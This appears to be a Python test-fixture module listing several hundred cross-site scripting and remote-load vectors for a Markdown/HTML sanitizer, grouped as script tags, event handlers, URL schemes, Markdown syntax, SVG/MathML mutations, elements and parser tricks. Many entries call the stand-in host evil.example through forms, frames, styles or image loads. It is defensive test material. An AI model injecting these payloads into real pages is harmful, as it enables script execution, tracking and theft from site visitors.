"""Texts that try to run a script, to reach another server, or to take over the page.

Each one calls `alert` or asks `evil.example` for something if it succeeds.
"""

from __future__ import annotations

_TAB, _NEWLINE, _NUL_LIKE = "\t", "\n", "\u0001"

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script in upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script as a module": '<script type="module">alert(1)</script>',
    "script inside script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script not closed": "<script>alert(1)//",
    "script after a stray bracket": "<<script>alert(1);//<</script>",
    "script in a paragraph": "Before <script>alert(1)</script> after.",
    "script in a heading": "# A <script>alert(1)</script> heading",
    "script in a table": "| a | b |\n|---|---|\n| <script>alert(1)</script> | c |",
    "script in a list": "- item <script>alert(1)</script>",
    "script in emphasis": "**<script>alert(1)</script>**",
}

HANDLERS = {
    "onerror": "<img src=x.png onerror=alert(1)>",
    "onerror, quoted": '<img src="x.png" onerror="alert(1)">',
    "onerror, no space": '<img src="x.png"onerror="alert(1)">',
    "onerror after a slash": '<img/src="x.png"/onerror=alert(1)>',
    "onerror after a form feed": "<img\x0csrc=x.png\x0conerror=alert(1)>",
    "onload": '<body onload="alert(1)">',
    "onload of a picture": '<svg onload="alert(1)"></svg>',
    "onclick": '<a href="#" onclick="alert(1)">click</a>',
    "onmouseover": '<b onmouseover="alert(1)">hover</b>',
    "onfocus": '<input autofocus onfocus="alert(1)">',
    "onfocus of a box": '<input type="checkbox" autofocus onfocus="alert(1)">',
    "onfocus of anything": '<p tabindex="0" autofocus onfocus="alert(1)">text</p>',
    "ontoggle": '<details open ontoggle="alert(1)"><summary>s</summary>text</details>',
    "onanimationstart": '<p style="animation: x" onanimationstart="alert(1)">text</p>',
    "onpointerenter": '<div onpointerenter="alert(1)">hover</div>',
    "onbeforetoggle": '<div popover id="p" onbeforetoggle="alert(1)">x</div>',
    "onloadstart": '<video src="x" onloadstart="alert(1)"></video>',
    "onerror of audio": '<audio src="x.png" onerror="alert(1)"></audio>',
    "oncopy": '<p oncopy="alert(1)">copy</p>',
    "handler in upper case": "<IMG SRC=x.png ONERROR=alert(1)>",
    "handler written as entities": '<img src=x.png onerror="&#97;lert(1)">',
}

SCHEMES = {
    "javascript": '<a href="javascript:alert(1)">click</a>',
    "javascript in mixed case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "javascript after a space": '<a href="  javascript:alert(1)">click</a>',
    "javascript after a control": f'<a href="{_NUL_LIKE}javascript:alert(1)">click</a>',
    "javascript split by a tab": f'<a href="java{_TAB}script:alert(1)">click</a>',
    "javascript split by a line": f'<a href="java{_NEWLINE}script:alert(1)">click</a>',
    "javascript split by an entity": '<a href="java&#10;script:alert(1)">click</a>',
    "javascript with a tab entity": '<a href="java&Tab;script:alert(1)">click</a>',
    "javascript as entities": '<a href="&#106;avascript:alert(1)">click</a>',
    "javascript as hex entities": '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
    "javascript with a host": '<a href="javascript://example.org/%0Aalert(1)">click</a>',
    "javascript in a picture": '<img src="javascript:alert(1)">',
    "javascript in a quotation": '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "vbscript": '<a href="vbscript:alert(1)">click</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "data in base 64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">c</a>',
    "data in a picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "blob": '<a href="blob:https://example.org/1">click</a>',
    "file": '<a href="file:///etc/passwd">click</a>',
    "view-source": '<a href="view-source:javascript:alert(1)">click</a>',
    "form's action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button's action": '<button formaction="javascript:alert(1)">go</button>',
}

MARKDOWN = {
    "link": "[click](javascript:alert(1))",
    "link in angle brackets": "[click](<javascript:alert(1)>)",
    "link in mixed case": "[click](JavaScript:alert(1))",
    "link with an entity": "[click](&#106;avascript:alert(1))",
    "link with a tab entity": "[click](java&Tab;script:alert(1))",
    "link to data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
    "link to vbscript": "[click](vbscript:alert(1))",
    "link by reference": "[click][ref]\n\n[ref]: javascript:alert(1)",
    "link by reference with a title": '[click][ref]\n\n[ref]: javascript:alert(1) "title"',
    "link's title": "[click](https://example.org \"x' onmouseover='alert(1)\")",
    "link's title with a quote": "[click](https://example.org 'x\" onmouseover=\"alert(1)')",
    "autolink": "<javascript:alert(1)>",
    "autolink to data": "<data:text/html,alert(1)>",
    "picture": "![alt](javascript:alert(1))",
    "picture's text": '![x" onerror="alert(1)](x.png)',
    "picture from elsewhere": "![alt](https://evil.example/x.png)",
    "picture from elsewhere without a scheme": "![alt](//evil.example/x.png)",
    "picture by reference from elsewhere": "![alt][r]\n\n[r]: https://evil.example/x.png",
    "picture in a link": "[![alt](https://evil.example/x.png)](javascript:alert(1))",
    "attribute list": "[click](#){: onclick=alert(1) }",
    "attribute list, quoted": '[click](#){: onclick="alert(1)" }',
    "attribute list of a block": "A paragraph.\n{: onmouseover=alert(1) }",
    "attribute list of a heading": "## A heading {: onmouseover=alert(1) }",
    "attribute list with an address": "[click](#){: href=javascript:alert(1) }",
    "attribute list with a style": "Text.\n{: style=background:url(//evil.example/x.png) }",
    "attribute list of a picture": "![alt](x.png){: onerror=alert(1) }",
    "attribute list with a source": "![alt](x.png){: src=https://evil.example/x.png }",
    "attribute list with a srcset": "![alt](x.png){: srcset=https://evil.example/x.png }",
    "footnote": "Text[^1].\n\n[^1]: <img src=x.png onerror=alert(1)> [click](javascript:alert(1))",
    "footnote's name": (
        'Text[^"><img src=x.png onerror=alert(1)>].\n\n[^"><img src=x.png onerror=alert(1)>]: note'
    ),
    "abbreviation": 'ABC\n\n*[ABC]: "><img src=x.png onerror=alert(1)>',
    "definition": "Term\n:   <img src=x.png onerror=alert(1)>",
    "admonition's title": '!!! note "<img src=x.png onerror=alert(1)>"\n    text',
    "details' title": '??? note "<img src=x.png onerror=alert(1)>"\n    text',
    "tab's title": '=== "<img src=x.png onerror=alert(1)>"\n    text',
    "fence's title": '```python title="<img src=x.png onerror=alert(1)>"\nx\n```',
    "fence's class": '```{ .python onclick="alert(1)" }\nx\n```',
    "markdown in a block": '<div markdown onclick="alert(1)">[click](javascript:alert(1))</div>',
    "markdown in a span": '<span markdown="1" onclick="alert(1)">*x*</span>',
    "markdown in a script": '<script markdown="1">alert(1)</script>',
    "code that looks like markup": "`<script>alert(1)</script>`",
    "fence that looks like markup": "```\n<script>alert(1)</script>\n```",
    "task": "- [ ] <img src=x.png onerror=alert(1)>",
    "template": "{{ config }} {% for x in [1] %}{{ 7 * 191 }}{% endfor %}",
}

NAMESPACES = {
    "script in a picture": "<svg><script>alert(1)</script></svg>",
    "script in a picture, as entities": "<svg><script>&#97;lert(1)</script></svg>",
    "link in a picture": '<svg><a xlink:href="javascript:alert(1)"><text y="20">c</text></a></svg>',
    "animated link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "animated start": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "set": "<svg><set onbegin=alert(1) attributeName=x to=1></svg>",
    "use": (
        '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>'
    ),
    "image": '<svg><image href="https://evil.example/x.png" onerror="alert(1)"/></svg>',
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></svg>",
    "style in a picture": "<svg><style><img src=x.png onerror=alert(1)></style></svg>",
    "title in a picture": "<svg><title><img src=x.png onerror=alert(1)></title></svg>",
    "desc in a picture": "<svg><desc><img src=x.png onerror=alert(1)></desc></svg>",
    "paragraph in a picture": '<svg></p><style><a id="</style><img src=x.png onerror=alert(1)>">',
    "math": '<math href="javascript:alert(1)">click</math>',
    "math with an action": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click'
    ),
    "mutation by math": (
        "<math><mtext><table><mglyph><style><img src=x.png onerror=alert(1)></style>"
    ),
    "mutation by a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation by a picture": '<svg><p><style><a title="</style><img src=x.png onerror=alert(1)>">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x.png onerror=alert(1)>">',
    "mutation by a template": '<template><p title="</template><img src=x.png onerror=alert(1)>">',
    "mutation by a listing": "<listing>&lt;img src=x.png onerror=alert(1)&gt;</listing>",
    "mutation by an annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x.png onerror=alert(1)></style>'
    ),
    "mutation by nesting": (
        "<svg><path><svg><style><img src=x.png onerror=alert(1)></style></svg></path></svg>"
    ),
    "mutation by CDATA": "<svg><![CDATA[><img src=x.png onerror=alert(1)>]]></svg>",
}

ELEMENTS = {
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "iframe from elsewhere": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "object from elsewhere": '<object data="https://evil.example/x"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "embed from elsewhere": '<embed src="https://evil.example/x">',
    "applet": '<applet code="x" archive="https://evil.example/x.jar"></applet>',
    "frameset": '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "refresh to data": '<meta http-equiv="refresh" content="0;url=data:text/html,alert(1)">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "preload": '<link rel="preload" as="image" href="https://evil.example/x.png">',
    "prefetch": '<link rel="prefetch" href="https://evil.example/x">',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style, not closed": "<style>body{background:url(https://evil.example/x.png)}",
    "style of a block": '<div style="background:url(https://evil.example/x.png)">x</div>',
    "style of a cell": (
        '<table><tr><td style="background:url(https://evil.example/x.png);text-align:left">x'
    ),
    "style over the page": '<div style="position:fixed;inset:0">x</div>',
    "srcset": '<img src="x.png" srcset="https://evil.example/x.png 2x" alt="x">',
    "picture": (
        '<picture><source srcset="https://evil.example/x.png"><img src="x.png" alt=""></picture>'
    ),
    "image from elsewhere": '<img src="https://evil.example/x.png" alt="x">',
    "image from elsewhere, split": '<img src="ht\ntps://evil.example/x.png" alt="x">',
    "image from elsewhere without a scheme": '<img src="//evil.example/x.png" alt="x">',
    "image from elsewhere, backslashes": '<img src="\\\\evil.example/x.png" alt="x">',
    "image from elsewhere, mixed slashes": '<img src="/\\evil.example/x.png" alt="x">',
    "image from elsewhere, one slash": '<img src="https:/evil.example/x.png" alt="x">',
    "image from elsewhere, entities": '<img src="&#104;ttps://evil.example/x.png" alt="x">',
    "image from elsewhere, spaces": '<img src="  //evil.example/x.png" alt="x">',
    "image from elsewhere, tab in slashes": '<img src="/\t/evil.example/x.png" alt="x">',
    "lazy image from elsewhere": '<img loading="eager" src="HTTPS://EVIL.EXAMPLE/x.png">',
    "video from elsewhere": '<video src="https://evil.example/x.mp4" autoplay></video>',
    "video's poster": '<video poster="https://evil.example/x.png"></video>',
    "video's source": '<video><source src="https://evil.example/x.mp4"></video>',
    "audio from elsewhere": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "track": '<video><track default src="https://evil.example/x.vtt"></video>',
    "image button": '<input type="image" src="https://evil.example/x.png">',
    "text field": '<input type="password" name="password" value="x">',
    "form": '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    "button for a form": '<button form="f" formaction="https://evil.example/">go</button>',
    "ping": '<a href="#" ping="https://evil.example/">click</a>',
    "target": '<a href="https://example.org/" target="_blank" rel="opener">click</a>',
    "background": '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
    "textarea": "<textarea></textarea><img src=x.png onerror=alert(1)></textarea>",
    "title": "<title><img src=x.png onerror=alert(1)></title>",
    "plaintext": "Before\n\n<plaintext>\n\nafter <img src=x.png onerror=alert(1)>",
    "xmp": "<xmp><img src=x.png onerror=alert(1)></xmp>",
    "noscript": "<noscript><img src=x.png onerror=alert(1)></noscript>",
    "noembed": "<noembed><img src=x.png onerror=alert(1)></noembed>",
    "noframes": "<noframes><img src=x.png onerror=alert(1)></noframes>",
    "select": "<select><option><img src=x.png onerror=alert(1)></select>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "dialog": '<dialog open onclose="alert(1)">x</dialog>',
    "custom element": "<x-y onclick=alert(1)>x</x-y>",
    "slot": "<slot onslotchange=alert(1)>x</slot>",
    "popover target": '<button popovertarget="p">x</button><div popover id="p">x</div>',
    "switch of the theme": '<label for="__drawer">x</label><input type="checkbox" id="__drawer">',
    "name of the theme": '<div class="md-search js-x" data-md-component="search">x</div>',
    "portal": '<portal src="https://evil.example/"></portal>',
    "fenced frame": '<fencedframe src="https://evil.example/"></fencedframe>',
}

SYNTAX = {
    "comment": "<!-- <script>alert(1)</script> -->",
    "comment that ends early": "<!--> <img src=x.png onerror=alert(1)> -->",
    "comment that ends with a bang": "<!-- --!> <img src=x.png onerror=alert(1)> -->",
    "comment not closed": "<!-- <img src=x.png onerror=alert(1)>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "php": "<?php echo '<script>alert(1)</script>'; ?>",
    "doctype": "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "end of everything": "</div></article></main></body></html><script>alert(1)</script>",
    "tag not closed": "<div><p><b><a href='javascript:alert(1)'>click",
    "quote not closed": '<img src="x onerror=alert(1)> and <b title="">\n\ntext',
    "bracket in an attribute": '<a title="><img src=x.png onerror=alert(1)>" href="#">x</a>',
    "attribute not closed": '<b title="</b><img src=x.png onerror=alert(1)>',
    "backtick quotes": "<img src=x.png onerror=`alert(1)`>",
    "raw block": "<div>\n\n[click](javascript:alert(1))\n\n<script>alert(1)</script>\n\n</div>",
    "raw table": "<table>\n<tr><td onclick='alert(1)'>x</td></tr>\n</table>",
    "raw block inside a list": "1. one\n\n    <div onclick='alert(1)'>x</div>\n",
    "html in lower ASCII tricks": "<img\x0bsrc=x.png onerror=alert(1)>",
    "wide letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "long s": "<\u017fcript>alert(1)</\u017fcript>",
    "stash of Markdown": "\x02wzxhzdk:0\x03 <script>alert(1)</script> \x02wzxhzdk:0\x03",
    "typed stash": "&#2;wzxhzdk:0&#3; `<script>alert(1)</script>`",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

VECTORS: dict[str, str] = {
    f"{group}: {name}": text
    for group, vectors in (
        ("script", SCRIPTS),
        ("handler", HANDLERS),
        ("scheme", SCHEMES),
        ("markdown", MARKDOWN),
        ("namespace", NAMESPACES),
        ("element", ELEMENTS),
        ("syntax", SYNTAX),
    )
    for name, text in vectors.items()
}
"""Every vector as Markdown, by what it tries."""

PLAIN = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x.png onerror=alert(1)>',
    "'><img src=x.png onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "&lt;img src=x.png onerror=alert(1)&gt;",
    "&quot;&gt;&lt;img src=x.png onerror=alert(1)&gt;",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 191 }}{% raw %}<img src=x.png onerror=alert(1)>",
    "[click](javascript:alert(1)) <b>x</b>",
)
"""Endings for what is plain text, such as a title."""
